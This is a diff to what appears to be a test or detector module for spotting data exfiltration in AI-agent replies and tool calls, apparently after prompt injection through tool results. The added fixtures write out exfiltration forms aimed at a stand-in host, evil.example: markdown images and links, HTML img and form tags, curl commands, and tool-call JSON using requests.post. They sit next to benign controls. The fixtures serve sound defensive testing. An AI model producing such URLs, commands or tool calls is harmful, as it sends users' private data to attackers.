@@ -10,7 +10,7 @@ al., 2023).
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from html import unescape
 from html.parser import HTMLParser
 from urllib.parse import unquote
@@ -166,6 +166,64 @@ ORDINARY_CALLS: dict[str, str] = {
 
 ASKED = "Find %s in https://crm.example/users?id=%s and use https://crm.example/api."
 """What the user says: one value, and the host that may be told it."""
+
+
+HIDDEN: dict[str, str] = {
+    "image": "![x]({evil}?q={v})",
+    "image with a path": "![x]({evil}/{v})",
+    "link": "See {evil}/{v}",
+    "host without a scheme": "See {www}/{v}",
+    "image without a scheme": "![x](//{www}?q={v})",
+    "HTML": "<img src={evil}&q={v}>",
+    "form": "<form action={evil}><input value={v}></form>",
+    "command": "curl {evil} -d {v}",
+    "command with the host last": "curl -d {v} {www}",
+    "reference": "![x][1]\n\n[1]: {evil}/{v}",
+}  # fmt: skip
+"""Replies where the host's URL is a placeholder itself: a tool's result named it and it was hidden."""
+
+HIDDEN_CALLS: dict[str, str] = {
+    "url": '{"url": "{evil}?q={v}"}',
+    "body": '{"url": "{evil}", "body": "{v}"}',
+    "body first": '{"body": "{v}", "to": ["{evil}"]}',
+    "host": '{"endpoint": "{www}", "text": "{v}"}',
+    "command": '{"command": "curl -d \'{v}\' {evil}"}',
+    "code": '{"code": "requests.post(\'{evil}\', data=\'{v}\')"}',
+    "another URL of the owner's": '{"url": "{evil}", "body": "{own} {v}"}',
+}  # fmt: skip
+
+HIDDEN_ORDINARY: dict[str, str] = {
+    "sentence": "See {evil} and write to {v}.",
+    "command to the host that the user named": "curl {own} -d {v}",
+    "command to a host that was found": "curl -O {evil}",
+    "link": "[the page]({evil}) of {v}",
+}  # fmt: skip
+
+HIDDEN_ORDINARY_CALLS: dict[str, str] = {
+    "the host that the user named": '{"url": "{own}", "body": "{v}"}',
+    "a page that was found": '{"url": "{evil}"}',
+    "a page that was found, by a command": '{"command": "wget {evil}"}',
+    "note": '{"text": "found {evil} for {v}"}',
+}  # fmt: skip
+
+
+def filled(form: str, value: str) -> str:
+    """`form` with the value in its places; `%%` is one percent sign."""
+    return form.replace("%%", "\0").replace("%s", value).replace("\0", "%")
+
+
+URLS = {
+    "own": "https://crm.example/api",
+    "evil": "https://evil.example/c?u=1",
+    "www": "www.evil.example/c",
+}
+
+
+def with_values(form: str, values: Mapping[str, str]) -> str:
+    """One of the `HIDDEN` forms with what its names stand for."""
+    for name, value in values.items():
+        form = form.replace(f"{{{name}}}", value)
+    return form
 
 
 class _Urls(HTMLParser):
